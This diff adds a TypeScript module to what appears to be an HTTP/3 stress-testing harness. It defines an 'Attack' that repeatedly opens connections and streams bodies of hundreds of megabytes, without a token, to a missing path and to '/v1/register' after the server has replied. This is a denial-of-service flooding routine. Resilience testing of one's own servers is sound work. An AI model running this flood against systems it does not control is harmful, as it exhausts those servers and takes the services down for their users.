@@ -1,0 +1,21 @@
+import type { Attack } from "./attack.ts";
+import { post } from "./http3-frames.ts";
+import { RawHttp3 } from "./raw-http3.ts";
+
+/** Bodies of hundreds of MB that go on after the answer has come: to a path that is none, and without a token. */
+export const endlessBodies: Attack = {
+  name: "bodies after the answer",
+  async run(target, signal) {
+    while (!signal.aborted) {
+      const client = await RawHttp3.open(target);
+      for (const [path, megabytes] of [
+        ["/nowhere", 300],
+        ["/v1/register", 600],
+        ["/v1/register", 600],
+      ] as const)
+        if (client.hasRoom)
+          await client.upload(client.request(post(path, target), false), megabytes * 1e6, signal);
+      client.close();
+    }
+  },
+};
